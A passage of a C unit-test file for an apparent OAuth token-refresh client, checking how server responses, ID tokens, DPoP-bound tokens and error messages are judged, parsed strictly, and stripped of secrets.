			      (table[i].status >= 300 && table[i].status < 400 && table[i].status != 304), "%s", line_of(&j.why));
		ck_assert_int_eq(j.busy, table[i].status == 429);
		ft_judgement_release(&j);
	}
}
END_TEST

/* An ID token that nobody can check just now changes nothing; one that is wrong ends it. */
START_TEST(id_tokens_that_count)
{
	static const struct {
		const char *id_token;
		enum ft_outcome outcome;
	} table[] = {
		{ "{\"verified\":true}", FT_OUTCOME_FRESH },
		{ "{\"verified\":false,\"error\":\"no key\",\"unknown_key\":true,\"token\":\"e.e.e\"}",
		  FT_OUTCOME_FRESH },
		{ "{\"verified\":false,\"error\":\"its signature is wrong\"}", FT_OUTCOME_TRANSIENT },
	};
	struct ft_profile profile = profile_of();
	char text[512];

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		(void)snprintf(text, sizeof text, OK200 "\"fields\":{" AT ",\"refresh_token\":\"next\"},"
			       "\"id_token\":%s", table[i].id_token);
		struct ft_judgement j = judge(&profile, NULL, text);

		ck_assert_int_eq(j.outcome, table[i].outcome);
		/* It is rotated all the same. */
		ck_assert_str_eq(j.refresh_token.data, "next");
		ft_judgement_release(&j);
	}
}
END_TEST

/* Its life is the lesser of what the service's Date gives and what our clock does. */
START_TEST(id_tokens_that_are_kept)
{
	static const struct {
		const char *rest, *token;
		int64_t lifetime;
	} table[] = {
		{ "\"verified\":true,\"token\":\"e.e.e\",\"exp\":1700000600}", "e.e.e", 600000 },
		{ "\"verified\":true,\"token\":\"e.e.e\",\"exp\":1700000600},\"date\":1700000100",
		  "e.e.e", 500000 },
		/* Within the leeway, and over. */
		{ "\"verified\":true,\"token\":\"e.e.e\",\"exp\":1699999990}", NULL, -1 },
		{ "\"verified\":true,\"token\":\"e\\ne\",\"exp\":1700000600}", NULL, -1 },
		{ "\"verified\":true}", NULL, -1 },
		{ "\"verified\":false,\"error\":\"e\",\"unknown_key\":true,\"token\":\"e.e.e\"}",
		  NULL, -1 },
	};
	struct ft_profile profile = profile_of();
	char text[512];

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		(void)snprintf(text, sizeof text, OK200 "\"fields\":{" AT "},\"id_token\":{%s",
			       table[i].rest);
		struct ft_judgement j = judge(&profile, NULL, text);

		ck_assert_int_eq(j.outcome, FT_OUTCOME_FRESH);
		ck_assert_pstr_eq(j.id_token.data, table[i].token);
		ck_assert_int_eq(j.id_lifetime, table[i].lifetime);
		ft_judgement_release(&j);
	}
}
END_TEST

START_TEST(somebody_else_is_refused)
{
	struct ft_profile profile = profile_of();
	struct ft_judgement j = judge(&profile, "alice", OK200 "\"fields\":{" AT ",\"subject\":\"alice2\","
				      "\"refresh_token\":\"next\"}");

	ck_assert_int_eq(j.outcome, FT_OUTCOME_TERMINAL);
	ck_assert_ptr_null(j.access_token.data);
	ck_assert_ptr_null(j.refresh_token.data);
	ft_judgement_release(&j);
	j = judge(&profile, "alice", OK200 "\"fields\":{" AT "}");
	ck_assert_int_eq(j.outcome, FT_OUTCOME_FRESH);
	ck_assert_ptr_null(j.subject);
	ft_judgement_release(&j);
	j = judge(&profile, NULL, OK200 "\"fields\":{" AT ",\"subject\":\"alice\"}");
	ck_assert_str_eq(j.subject, "alice");
	ft_judgement_release(&j);
}
END_TEST

START_TEST(no_secret_in_a_reason)
{
	struct ft_profile profile = profile_of();
	struct ft_judgement j = judge(&profile, NULL, "\"sent\":\"yes\",\"status\":400,\"media\":\"json\","
		"\"parsed\":true,\"fields\":{\"code\":\"bad\",\"message\":\"token at-1234 is bad\","
		"\"refresh_token\":\"at-1234\"}");

	ck_assert_str_eq(line_of(&j.why), "HTTP 400: bad");
	ft_judgement_release(&j);
	j = judge(&profile, NULL, "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,"
		  "\"fields\":{\"message\":\"no eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.abc\"}");
	ck_assert_str_eq(line_of(&j.why), "HTTP 400");
	ft_judgement_release(&j);
}
END_TEST

START_TEST(how_much_of_a_service_is_repeated)
{
	struct ft_profile profile = profile_of();
	struct ft_secret token = { (char *)"s3cret-token", 12 }, none = { NULL, 0 };
	char text[1024], long_text[256];

	ft_judgement_release(NULL);
	/* Words of up to 40 bytes, texts of up to 240. */
	for (int word = 40; word <= 41; word++) {
		(void)snprintf(text, sizeof text, "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,"
			       "\"fields\":{\"message\":\"a %.*s b\"}", word,
			       "wwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwwww");
		struct ft_judgement j = judge(&profile, NULL, text);

		ck_assert_msg((strstr(line_of(&j.why), "wwww") != NULL) == (word == 40), "%s", line_of(&j.why));
		ft_judgement_release(&j);
	}
	for (size_t i = 0; i < sizeof long_text - 1; i++)
		long_text[i] = i % 8 == 7 ? ' ' : 'w';
	for (int len = 240; len <= 241; len++) {
		(void)snprintf(text, sizeof text, "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,"
			       "\"fields\":{\"message\":\"%.*s\"}", len, long_text);
		struct ft_judgement j = judge(&profile, NULL, text);

		ck_assert_msg((strstr(line_of(&j.why), "wwww") != NULL) == (len == 240), "%s", line_of(&j.why));
		ft_judgement_release(&j);
	}
	/* Of more than that the first line, where that is short. */
	for (int len = 240; len <= 241; len++) {
		(void)snprintf(text, sizeof text, "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,"
			       "\"fields\":{\"message\":\"%.*s \\nTrace ID: 1 %.90s\"}", len, long_text,
			       long_text);
		struct ft_judgement j = judge(&profile, NULL, text);

		ck_assert_msg((strstr(line_of(&j.why), "wwww") != NULL) == (len == 240), "%s", line_of(&j.why));
		ck_assert_ptr_null(strstr(line_of(&j.why), "Trace"));
		ft_judgement_release(&j);
	}
	/* Both as they are, or the first alone: a token that is cut would not be found. */
	for (int room = 0; room <= 1; room++) {
		const int len = (FT_ERROR_FOREIGN - 3 + 1 - room) - 190;

		(void)snprintf(text, sizeof text, "\"sent\":\"yes\",\"status\":400,\"media\":\"json\",\"parsed\":true,"
			       "\"fields\":{\"code\":\"%.190s\",\"message\":\"%.*s s3cret-token\"}",
			       long_text, len - 13, long_text);
		struct ft_judgement j = judge(&profile, NULL, text);

		ck_assert_msg((strstr(line_of(&j.why), ": wwww") != NULL) == room &&
			      (strstr(line_of(&j.why), " s3cret-token") != NULL) == room &&
			      (strstr(line_of(&j.why), "s3") != NULL) == room, "%s", line_of(&j.why));
		ft_judgement_release(&j);
	}
	for (int part = 0; part <= 1; part++) {
		struct ft_error words = { .text = "HTTP 400", .foreign = "nothing" };
		char *said = part ? words.foreign : words.text;

		ft_judge_hide(&words, &token);
		ck_assert_str_eq(line_of(&words), "HTTP 400: \"nothing\"");
		strcpy(said, "said s3cret-token.");
		ft_judge_hide(&words, &none);
		ck_assert_str_eq(said, "said s3cret-token.");
		ft_judge_hide(&words, &token);
		ck_assert_ptr_null(strstr(line_of(&words), "s3cret"));
	}
}
END_TEST

START_TEST(incomplete_answers_are_none)
{
	static const char answer[] = "{\"version\":1,\"sent\":\"yes\",\"status\":200,\"fields\":{\"access_token\":\"a\"}}\n";
	static const char *const wrong[] = {
		"", "{}", "{\"version\":1}", "{\"version\":2,\"sent\":\"no\"}",
		"{\"version\":1,\"sent\":\"yes\"}", "{\"version\":1,\"sent\":\"no\",\"status\":200}",
		"{\"version\":1,\"sent\":\"perhaps\"}",
	};
	char file[4096] = "";
	struct ft_facts facts;
	struct ft_error err;

	memcpy(file, answer, sizeof answer);
	ck_assert_int_eq(ft_facts_parse(file, sizeof file, &facts, &err), 0);
	ck_assert_str_eq(facts.fields[FT_FIELD_ACCESS_TOKEN].data, "a");
	ft_facts_release(&facts);
	for (size_t len = 0; len < sizeof answer - 3; len++) {
		memset(file, 0, sizeof file);
		memcpy(file, answer, len);
		ck_assert_int_eq(ft_facts_parse(file, sizeof file, &facts, &err), FT_UNTRUSTED);
	}
	/* A number that nobody can count with is the greatest that one can, or none. */
	static const char far[] = "{\"version\":1,\"sent\":\"yes\",\"status\":200,\"date\":170022211111000001,"
		"\"retry_after\":-9223372036854775808,\"jwt\":{\"exp\":9223372036854775807,\"iat\":-2}}";

	ck_assert_int_eq(ft_facts_parse(far, sizeof far - 1, &facts, &err), 0);
	ck_assert_int_eq(facts.date, INT64_C(253402300799));
	ck_assert_int_eq(facts.retry_after, -1);
	ck_assert_int_eq(facts.jwt_exp, INT64_C(253402300799));
	ck_assert_int_eq(facts.jwt_iat, -1);
	ft_facts_release(&facts);
	for (size_t i = 0; i < sizeof wrong / sizeof *wrong; i++)
		ck_assert_msg(ft_facts_parse(wrong[i], strlen(wrong[i]), &facts, &err) == FT_UNTRUSTED,
			      "%s", wrong[i]);
}
END_TEST

#define ANSWER "{\"version\":1,\"sent\":\"yes\",\"status\":200,"

START_TEST(id_tokens_and_keys_are_read_strictly)
{
	static const struct {
		const char *text;
		bool verified, unknown_key;
		const char *error, *token;
	} table[] = {
		{ "{\"verified\":true}", true, false, "", NULL },
		{ "{\"verified\":true,\"new\":1}", true, false, "", NULL },
		{ "{\"verified\":false,\"error\":\"e\"}", false, false, "e", NULL },
		{ "{\"verified\":false,\"error\":\"e\",\"unknown_key\":true,\"token\":\"t\"}", false,
		  true, "e", "t" },
		{ "{\"verified\":true,\"token\":\"t\",\"exp\":7}", true, false, "", "t" },
	};
	static const char *const wrong[] = {
		"\"id_token\":null}", "\"id_token\":true}", "\"id_token\":[]}", "\"id_token\":{}}",
		"\"id_token\":{\"verified\":\"true\"}}", "\"id_token\":{\"verified\":1}}",
		"\"id_token\":{\"verified\":false}}",
		"\"id_token\":{\"verified\":true,\"error\":\"e\"}}",
		"\"id_token\":{\"verified\":true,\"token\":\"t\"}}",
		"\"id_token\":{\"verified\":true,\"exp\":7}}",
		"\"id_token\":{\"verified\":true,\"token\":\"t\",\"exp\":-1}}",
		"\"id_token\":{\"verified\":false,\"error\":\"e\",\"token\":\"t\",\"exp\":7}}",
		"\"id_token\":{\"verified\":true,\"unknown_key\":true,\"token\":\"t\"}}",
		"\"id_token\":{\"verified\":false,\"error\":\"e\",\"unknown_key\":true}}",
		"\"id_token\":{\"verified\":false,\"error\":\"e\",\"token\":\"t\"}}",
		"\"keys\":null}", "\"keys\":[]}", "\"keys\":{}}", "\"keys\":{\"keys\":{}}}",
		"\"keys\":\"{}\"}",
		"\"keys\":{\"keys\":[{\"key_ops\":[[]]}]}}",
	};
	static const char keys[] = "{\"keys\":[{\"kty\":\"RSA\",\"key_ops\":[\"verify\"]}]}";
	struct ft_facts facts;
	struct ft_error err = FT_ERROR_INIT;
	char text[512];

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		(void)snprintf(text, sizeof text, ANSWER "\"id_token\":%s}\n", table[i].text);
		ck_assert_msg(ft_facts_parse(text, strlen(text), &facts, &err) == 0, "%s", text);
		ck_assert(facts.id_token.present);
		ck_assert(facts.id_token.verified == table[i].verified);
		ck_assert(facts.id_token.unknown_key == table[i].unknown_key);
		ck_assert_str_eq(facts.id_token.error, table[i].error);
		ck_assert_pstr_eq(facts.id_token.token.data, table[i].token);
		ck_assert_ptr_null(facts.keys);
		ft_facts_release(&facts);
	}
	(void)snprintf(text, sizeof text, ANSWER "\"keys\":%s}\n", keys);
	ck_assert_int_eq(ft_facts_parse(text, strlen(text), &facts, &err), 0);
	ck_assert_str_eq(facts.keys, keys);
	ck_assert(!facts.id_token.present && !facts.id_token.verified);
	ft_facts_release(&facts);
	for (size_t i = 0; i < sizeof wrong / sizeof *wrong; i++) {
		(void)snprintf(text, sizeof text, ANSWER "%s\n", wrong[i]);
		err.text[0] = '\0';
		ck_assert_msg(ft_facts_parse(text, strlen(text), &facts, &err) == FT_UNTRUSTED,
			      "%s", text);
		ck_assert_str_ne(line_of(&err), "");
	}
}
END_TEST

/* RFC 9449: who wants tokens that are bound to a key gets no other, and nobody else gets one. */
START_TEST(bound_tokens)
{
	static char *dpop[] = { (char *)"DPoP" };
	static const struct {
		bool bound;
		const char *answer;
		enum ft_outcome outcome;
		const char *text, *remedy;
		bool ambiguous;
	} table[] = {
		{ true, OK200 "\"fields\":{" AT ",\"token_type\":\"dpop\"}", FT_OUTCOME_FRESH, "", "", false },
		{ false, OK200 "\"fields\":{" AT ",\"token_type\":\"DPoP\"}", FT_OUTCOME_TRANSIENT,
		  "bound to a key (DPoP, RFC 9449)", "set dpop = yes, and sign in again", false },
		{ true, OK200 "\"fields\":{" AT ",\"token_type\":\"Bearer\"}", FT_OUTCOME_TRANSIENT,
		  "not bound to the key of dpop = yes", "remove dpop", false },
		{ true, OK200 "\"fields\":{" AT "}", FT_OUTCOME_TRANSIENT,
		  "not bound to the key of dpop = yes", "remove dpop", false },
		{ false, PROOF("invalid_dpop_proof", "x"), FT_OUTCOME_TRANSIENT,
		  "HTTP 400: invalid_dpop_proof; the service wants proofs of a key", "set dpop = yes", false },
		{ false, PROOF("use_dpop_nonce", "x"), FT_OUTCOME_TRANSIENT, "wants proofs", "dpop = yes", false },
		{ false, PROOF("invalid_request", "DPoP proof required"), FT_OUTCOME_TRANSIENT,
		  "wants proofs", "dpop = yes", false },
		{ true, PROOF("invalid_dpop_proof", "x"), FT_OUTCOME_TRANSIENT,
		  "does not accept the proof", "check this machine's clock, and that no proxy", true },
		{ true, PROOF("use_dpop_nonce", "x"), FT_OUTCOME_TRANSIENT, "not accept", "DPoP-Nonce", false },
		{ true, PROOF("invalid_dpop_proof", "DPoP proof htu mismatch"), FT_OUTCOME_TRANSIENT,
		  "not accept", "another address", false },
		/* What services write; a copy that came before may have been granted. */
		{ true, PROOF("invalid_dpop_proof", "DPoP proof iat is not recent enough"),
		  FT_OUTCOME_TRANSIENT, "not accept", "check this machine's clock", false },
		{ true, PROOF("invalid_dpop_proof", "jti already used"), FT_OUTCOME_TRANSIENT,
		  "has seen this request's proof", "send each request only once", true },
		{ true, PROOF("invalid_request", "DPoP proof has already been used"),
		  FT_OUTCOME_TRANSIENT, "has seen", "send each request only once", true },
		{ true, PROOF("invalid_grant", "DPoP proof JWT Replay detected"),
		  FT_OUTCOME_TRANSIENT, "has seen", "send each request only once", true },
		{ true, PROOF("invalid_grant", "DPoP"), FT_OUTCOME_TERMINAL, "HTTP 400: invalid_grant",
		  "", false },
		{ true, PROOF("invalid_grant", "DPoP-bound token was already used"),
		  FT_OUTCOME_TERMINAL, "HTTP 400: invalid_grant", "", false },
		{ true, PROOF("invalid_grant", "the associated token was already used"),
		  FT_OUTCOME_TERMINAL, "HTTP 400: invalid_grant", "", false },
		{ false, PROOF("invalid_grant", "DPoP proof JWT Replay detected"),
		  FT_OUTCOME_TERMINAL, "HTTP 400: invalid_grant", "", false },
	};

	for (size_t i = 0; i < sizeof table / sizeof *table; i++) {
		struct ft_profile profile = profile_of();

		if (table[i].bound)
			profile.token_types = (struct ft_strings){ dpop, 1 };
		struct ft_judgement j = judge(&profile, NULL, table[i].answer);

		ck_assert_msg(j.outcome == table[i].outcome &&
				      strstr(j.why.text, table[i].text) != NULL &&
				      strstr(j.why.remedy, table[i].remedy) != NULL,
			      "%zu: %d %s; %s", i, j.outcome, j.why.text, j.why.remedy);
		/* A proof says nothing of the refresh token: no sign-in ends for it. */
		ck_assert(j.outcome != FT_OUTCOME_TRANSIENT || j.refusal[0] == '\0');
		ck_assert_msg(j.ambiguous == table[i].ambiguous, "%zu", i);
		/* And none whose refusal may be about a proof for good. */
		ck_assert(j.other_proof == (table[i].bound && j.outcome == FT_OUTCOME_TERMINAL));
		ck_assert(!j.other_proof || j.refusal[0] != '\0');
		ft_judgement_release(&j);
	}
}
END_TEST

int main(void)
{
	const TTest *const tests[] = {
		nothing_judged_is_no_success, bound_tokens, outcomes, a_quota_ends_nothing, bodies_left_open_by_the_document,
		refusals_of_their_own, lifetimes, whole_reasons,
		ends_and_no_memory,
		an_unusable_answer_keeps_the_rotated_token, which_answers_bring_tokens, which_refusals_are_ambiguous,
		id_tokens_that_count, id_tokens_that_are_kept, somebody_else_is_refused,
		no_secret_in_a_reason, how_much_of_a_service_is_repeated, incomplete_answers_are_none,
		id_tokens_and_keys_are_read_strictly, NULL
	};

	return unit_run("judge", tests);
}
